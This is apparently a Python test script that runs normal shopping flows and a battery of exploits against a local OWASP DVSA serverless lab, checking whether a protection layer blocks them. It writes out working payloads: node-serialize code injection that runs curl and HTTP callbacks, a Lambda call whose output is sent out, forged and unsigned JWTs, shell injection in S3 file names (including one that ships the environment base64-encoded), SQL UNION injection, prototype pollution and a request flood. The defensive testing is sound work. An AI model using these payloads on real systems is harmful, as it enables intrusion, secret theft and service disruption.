"""Honest flows and exploits of OWASP DVSA against an application that runs. Prints a JSON line for each, and ends with 1 when one is wrong.

Arguments: the address of its API, the AWS endpoint, the file with the lines of `buckler run --json`. OWNER: the access key of the owner.
"""
import base64, http.server, json, os, sys, threading, time, urllib.error, urllib.parse, urllib.request
import boto3

API, AWS, EVENTS = sys.argv[1].rstrip("/"), sys.argv[2], (sys.argv[3] if len(sys.argv) > 3 else None)
REGION = os.environ.get("AWS_REGION", "us-east-1")
CALLS = []
# Requests of one user at once.
FLOOD = 60


class Canary(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        CALLS.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_):
        pass


canary = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Canary)
threading.Thread(target=canary.serve_forever, daemon=True).start()
CANARY = f"http://127.0.0.1:{canary.server_port}"


def client(name):
    return boto3.client(name, endpoint_url=AWS, region_name=REGION, aws_access_key_id=os.environ["OWNER"], aws_secret_access_key="local")


def post(path, body, token=None, headers=None, raw=None, timeout=40):
    data = raw if raw is not None else json.dumps(body).encode()
    request = urllib.request.Request(API + path, data=data, method="POST")
    request.add_header("Content-Type", "application/json")
    if token:
        request.add_header("Authorization", token)
    for name, value in (headers or {}).items():
        request.add_header(name, value)
    try:
        with urllib.request.urlopen(request, timeout=timeout) as answer:
            return answer.status, answer.read().decode(errors="replace")
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode(errors="replace")
    except Exception as error:  # noqa
        return 0, repr(error)


def users():
    cognito = client("cognito-idp")
    pool = next(p for p in cognito.list_user_pools(MaxResults=10)["UserPools"])["Id"]
    app = cognito.list_user_pool_clients(UserPoolId=pool, MaxResults=10)["UserPoolClients"][0]["ClientId"]
    made = {}
    for name, admin in [("alice@example.org", "false"), ("bob@example.org", "false"), ("root@example.org", "true")]:
        attributes = [{"Name": "email", "Value": name}, {"Name": "custom:is_admin", "Value": admin}]
        try:
            cognito.admin_create_user(UserPoolId=pool, Username=name, UserAttributes=attributes, MessageAction="SUPPRESS")
        except cognito.exceptions.UsernameExistsException:
            pass
        cognito.admin_set_user_password(UserPoolId=pool, Username=name, Password="Pa55word!x", Permanent=True)
        tokens = cognito.admin_initiate_auth(UserPoolId=pool, ClientId=app, AuthFlow="ADMIN_NO_SRP_AUTH",
                                             AuthParameters={"USERNAME": name, "PASSWORD": "Pa55word!x"})["AuthenticationResult"]
        claims = json.loads(base64.urlsafe_b64decode(tokens["AccessToken"].split(".")[1] + "=="))
        client("dynamodb").put_item(TableName="DVSA-USERS-DB", Item={"userId": {"S": claims["username"]}, "email": {"S": name}, "phone": {"S": "+1"}, "address": {"S": " "}, "fullname": {"S": "A"}, "avatar": {"S": "x"}, "isAdmin": {"BOOL": admin == "true"}})
        made[name.split("@")[0]] = (tokens["AccessToken"], claims["username"])
    return made


WRONG = 0


def tell(kind, name, ok, detail):
    global WRONG
    WRONG += not ok
    print(json.dumps({"kind": kind, "name": name, "ok": bool(ok), "detail": str(detail)[:300]}), flush=True)


def events():
    if not EVENTS or not os.path.exists(EVENTS):
        return []
    lines = []
    for line in open(EVENTS, errors="replace"):
        try:
            one = json.loads(line)
            if one.get("type") == "guard":
                lines.append(one["event"])
            elif one.get("type") == "gateway":
                rules = one["event"].get("unmapped", {}).get("rules") or [one["status"]]
                lines.append({"unmapped": {"layer": "gateway " + one["layer"], "rule": rules[0], "action": one["action"]}})
            elif "unmapped" in one:
                lines.append(one)
        except ValueError:
            pass
    return lines


def blocked_since(mark):
    told = [e.get("unmapped", {}) for e in events()[mark:]]
    return sorted({f"{t.get('layer')}:{t.get('rule')}" for t in told if t.get("action") == "blocked"})


def honest(name, run):
    mark = len(events())
    try:
        ok, detail = run()
    except Exception as error:  # noqa
        ok, detail = False, repr(error)
    tell("honest", name, ok, f"{detail} {blocked_since(mark) or ''}")


def exploit(name, run, wait=1.5):
    """`run` gives true when the exploit had its effect."""
    mark, calls = len(events()), len(CALLS)
    try:
        worked, detail = run()
    except Exception as error:  # noqa
        worked, detail = False, repr(error)
    time.sleep(wait)
    new = CALLS[calls:]
    worked = worked or any("/x" in call for call in new)
    # Who stopped it is told beside the answer, and may be told after it.
    until = time.time() + 3
    while not worked and not blocked_since(mark) and time.time() < until:
        time.sleep(0.2)
    tell("exploit", name, not worked, f"{detail} calls={new[:2]} stopped by {blocked_since(mark)}")


def is_ok(answer):
    status, body = answer
    try:
        return status == 200 and json.loads(body).get("status") == "ok"
    except ValueError:
        return False


def main():
    who = users()
    alice, alice_id = who["alice"]
    bob, bob_id = who["bob"]
    root, _ = who["root"]
    order = {}

    def new():
        answer = post("/order", {"action": "new", "cart-id": "1f2e3d4c-0000-4000-8000-000000000001", "items": {"1018": 1, "1016": 2}}, alice)
        if is_ok(answer):
            order["id"] = json.loads(answer[1])["order-id"]
        return is_ok(answer), answer

    def simple(body, token=alice):
        def run():
            answer = post("/order", body(), token)
            return is_ok(answer), answer
        return run

    honest("new order", new)
    honest("orders", simple(lambda: {"action": "orders"}))
    honest("get", simple(lambda: {"action": "get", "order-id": order["id"]}))
    honest("update", simple(lambda: {"action": "update", "order-id": order["id"], "items": {"1018": 3}}))
    honest("shipping", simple(lambda: {"action": "shipping", "order-id": order["id"],
                                       "data": {"address": "12 O'Connell St., #4 & 5; Dublin", "email": "alice@example.org", "name": "Alice O'Neil"}}))
    honest("price lookup", lambda: (lambda a: (a[0] == 200 and "total" in a[1], a))(post("/total", [{"itemId": "1018", "quantity": 2}])))
    honest("billing", simple(lambda: {"action": "billing", "order-id": order["id"], "data": {"ccn": "4242424242424242", "exp": "11/29", "cvv": "444"}}))
    honest("complete", simple(lambda: {"action": "complete", "order-id": order["id"]}))
    honest("account", simple(lambda: {"action": "account"}))
    honest("profile", simple(lambda: {"action": "profile", "data": {"name": "Zoë <3 C++", "address": "Straße 1; Bonn", "phone": "+49 228 1", "avatar": None}}))
    honest("inbox (its mail server is on the internet)", lambda: (lambda a: (a[0] == 200, a))(post("/order", {"action": "inbox"}, alice)))
    for text in ["I love eval() and SELECT * FROM shoes WHERE size = 44; DROP me a line!", "It's great -- really; 10/10 & more", "<3 your shop! (5 > 4) $5 off?"]:
        honest("feedback: " + text[:20], simple(lambda text=text: {"action": "feedback", "data": {"name": text, "subject": text, "message": text}}))
    honest("upload", lambda: (lambda a: (a[0] == 200 and "url" in a[1] and "ASIA" in a[1] and "[" not in a[1].split("policy")[0], a))(post("/order", {"action": "upload", "attachment": "my photo (1).png"}, alice)))
    honest("admin listing", lambda: (lambda a: (a[0] == 200 and "Unauthorized" not in a[1], a))(post("/order", {"action": "admin-orders", "data": {}}, root)))

    def cancel():
        answer = post("/order", {"action": "new", "cart-id": "1f2e3d4c-0000-4000-8000-000000000002", "items": {"1013": 1}}, alice)
        made = json.loads(answer[1])["order-id"]
        answer = post("/order", {"action": "cancel", "order-id": made}, alice)
        return is_ok(answer), answer

    honest("cancel", cancel)

    s3 = client("s3")
    buckets = [b["Name"] for b in s3.list_buckets()["Buckets"]]
    feedback = next((b for b in buckets if "feedback" in b), None)
    receipts = next((b for b in buckets if "receipt" in b), None)

    def put(bucket, key):
        s3.put_object(Bucket=bucket, Key=key, Body=b"x")
        time.sleep(2.5)

    def upload_event():
        mark = len(events())
        put(feedback, "5f0e2d5e_holiday photo 2.png")
        return not blocked_since(mark), "put"

    honest("feedback file is handled", upload_event)

    run_http = lambda path: "_$$ND_FUNC$$_function(){require('http').get('%s/x%s')}()" % (CANARY, path)
    exploit("1 code in body", lambda: (False, post("/order", {"action": run_http("body"), "cart-id": ""}, alice)))
    exploit("1 code in header", lambda: (False, post("/order", {"action": "orders"}, alice, {"X-Any": run_http("header")})))
    escaped = json.dumps({"action": "Q"}).replace("Q", "".join("\\u%04x" % ord(c) for c in run_http("unicode")))
    exploit("1 code, unicode-escaped", lambda: (False, post("/order", None, alice, raw=escaped.encode())))
    exploit("1 code, nested", lambda: (False, post("/order", {"action": "orders", "a": {"b": [{"c": run_http("nested")}]}}, alice)))
    exploit("1 code in key order", lambda: (False, post("/order", {"zz": 1, "items": {"11": run_http("items")}, "action": "orders"}, alice)))
    spawn = "_$$ND_FUNC$$_function(){require('child_process').exec('curl -s %s/xspawn')}()" % CANARY
    exploit("1 command through code", lambda: (False, post("/order", {"action": spawn}, alice)))
    lam = ("_$$ND_FUNC$$_function(){var {LambdaClient,InvokeCommand}=require('@aws-sdk/client-lambda');"
           "new LambdaClient().send(new InvokeCommand({FunctionName:'DVSA-ADMIN-GET-ORDERS',Payload:JSON.stringify({user:'x'})}))"
           ".then(d=>require('http').get('%s/x'+Buffer.from(d.Payload).toString('base64')))}()" % CANARY)
    exploit("3/5 another function through code", lambda: (False, post("/order", {"action": lam}, alice)))

    part = lambda value: base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")
    forged = alice.split(".")[0] + "." + part({"username": alice_id, "sub": alice_id}) + "." + alice.split(".")[2]
    none = part({"alg": "none"}) + "." + part({"username": alice_id}) + "."

    def is_alices(answer):
        return is_ok(answer) and (order.get("id", "?") in answer[1] or "orders" in answer[1]), answer

    exploit("2 forged token", lambda: is_alices(post("/order", {"action": "orders"}, forged)), 0.2)
    exploit("2 unsigned token", lambda: is_alices(post("/order", {"action": "orders"}, none)), 0.2)
    exploit("2 tampered payload, bob's signature", lambda: is_alices(post("/order", {"action": "orders"}, bob.split(".")[0] + "." + alice.split(".")[1][:-4] + "AAAA." + bob.split(".")[2])), 0.2)

    keys = [
        (feedback, "a;curl -s %s/xkey1;.png"), (feedback, "$(curl -s %s/xkey2)"), (feedback, "`curl -s %s/xkey3`"),
        (feedback, "x|curl -s %s/xkey4|.txt"), (feedback, "x\ncurl -s %s/xkey5\n"), (feedback, "x&&curl${IFS}-s${IFS}%s/xkey6"),
        (receipts, "2020/20/20/null_;curl -s %s/xkey7;echo x.raw"), (receipts, "2020/20/20/null_;b=`env|base64 --wrap=0`;curl %s/x$b;echo x.raw"),
    ]
    for bucket, key in keys:
        if bucket:
            exploit("4/7 file name " + key[:24], lambda: (False, put(bucket, key % CANARY)), 0.5)

    def parallel():
        # Answers in the order of their arrival: `None` for the other user's.
        answers = []
        made = post("/order", {"action": "new", "cart-id": "1f2e3d4c-0000-4000-8000-000000000003", "items": {"1018": 1}}, bob)
        bobs = json.loads(made[1])["order-id"]
        body = {"action": "billing", "order-id": bobs, "data": {"ccn": "4242424242424242", "exp": "11/29", "cvv": "444"}}
        new()
        threads = [threading.Thread(target=lambda: answers.append(post("/order", body, bob, timeout=120)[0])) for _ in range(FLOOD)]
        [t.start() for t in threads]
        time.sleep(0.5)
        other = post("/order", {"action": "billing", "order-id": order["id"], "data": {"ccn": "4242424242424242", "exp": "11/29", "cvv": "444"}}, alice, timeout=120)
        answers.append(None)
        [t.join() for t in threads]
        # The flood stands before everybody else: the other user is not served, or after most of it.
        before = [status for status in answers[:answers.index(None)] if status != 429]
        served = [status for status in answers if status not in (None, 429)]
        return not is_ok(other) or len(before) > FLOOD // 2, f"beside it {other}; {len(before)} of the flood served before it, {len(served)} in all; statuses {sorted(set(filter(None, answers)))}"

    exploit("6 parallel billing", parallel, 0)
    exploit("sql in a price lookup", lambda: (lambda a: ("424242" in a[1], a))(post("/total", [{"itemId": "0 UNION SELECT 1, 424242, 9", "quantity": 1}])), 0.1)
    exploit("sql in a price lookup, comment", lambda: (lambda a: ("424242" in a[1], a))(post("/total", [{"itemId": "0/**/UnIoN/**/SeLeCt/**/1,424242,9--", "quantity": 1}])), 0.1)
    exploit("prototype", lambda: (False, post("/order", {"action": "orders", "__proto__": {"isAdmin": "true"}}, alice)), 0.1)
    exploit("admin listing by alice", lambda: (lambda a: (is_ok(a), a))(post("/order", {"action": "admin-orders", "data": {}}, alice)), 0.1)
    exploit("10 stack trace", lambda: (lambda a: (any(m in a[1] for m in ("Traceback", "stackTrace", "/var/task", "at ", ".py")), a))(post("/total", {"a": 1})), 0.1)
    exploit("10 stack trace, payment", lambda: (lambda a: (any(m in a[1] for m in ("Traceback", "stackTrace", "requestId\": \"", ".py")), a))(post("/payment", {"ccn": []})), 0.1)
    exploit("admin shell", lambda: (False, post("/admin", {"userId": "x", "cmd": "require('http').get('%s/xadmin')" % CANARY})))
    sys.exit(1 if WRONG else 0)


main()
